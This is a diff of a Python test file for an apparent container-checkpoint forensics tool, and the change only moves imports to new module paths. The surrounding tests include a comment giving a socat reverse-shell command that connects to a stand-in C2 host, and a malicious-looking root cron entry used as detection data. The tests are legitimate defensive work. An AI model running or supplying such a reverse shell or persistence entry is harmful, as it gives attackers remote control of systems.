@@ -25,9 +25,10 @@ from tests.findings.findings_crafted import (
     tcp,
 )
 
-from forensic_checkpoint.analysis.findings.model import Finding
 from forensic_checkpoint.analysis.findings.run import find_all
-from forensic_checkpoint.analysis.report import Holder, MemoryMap, Report, SharedMemoryObject
+from forensic_checkpoint.analysis.model.findings import Finding
+from forensic_checkpoint.analysis.model.process import MemoryMap
+from forensic_checkpoint.analysis.model.report import Holder, Report, SharedMemoryObject
 
 ANY = "0.0.0.0"  # noqa: S104 (a socket address in data, nothing binds)
 SERVER = proc(
@@ -237,7 +238,7 @@ def test_rootfs_rules(path: str, mode: str, rule: str, severity: str) -> None:
 
 
 def test_cron_content_is_quoted_and_mount_points_are_not_writes() -> None:
-    from forensic_checkpoint.analysis.report import Mount
+    from forensic_checkpoint.analysis.model.report import Mount
 
     line = b"*/5 * * * * root /tmp/x\n"
     rep = report(
@@ -278,7 +279,7 @@ def test_sensitive_host_mount() -> None:
 
 
 def test_privileged_and_added_capabilities() -> None:
-    from forensic_checkpoint.analysis.processes import CAPABILITIES
+    from forensic_checkpoint.analysis.sections.task_details import CAPABILITIES
 
     spec = {
         "process": {"capabilities": {"bounding": CAPABILITIES}},
@@ -310,7 +311,7 @@ def _maps_proc(exe: str = "/usr/bin/app") -> Process:
     return proc(9, "app", exe=exe)
 
 
-from forensic_checkpoint.analysis.report import Process  # noqa: E402
+from forensic_checkpoint.analysis.model.process import Process  # noqa: E402
 
 
 def test_compel_patch_page_is_not_modified_code_but_a_second_page_is() -> None:
@@ -424,7 +425,7 @@ def test_a_miner_port_alone_is_not_a_miner() -> None:
 
 def test_reverse_shell_through_a_socketpair_relay() -> None:
     # socat TCP:c2:4444 EXEC:bash: bash's stdio is one end of a UNIX socketpair
-    from forensic_checkpoint.analysis.report import Socket
+    from forensic_checkpoint.analysis.model.report import Socket
 
     def unix(file_id: int, inode: int, peer: int, holders: list[tuple[int, int]]) -> Socket:
         return Socket(
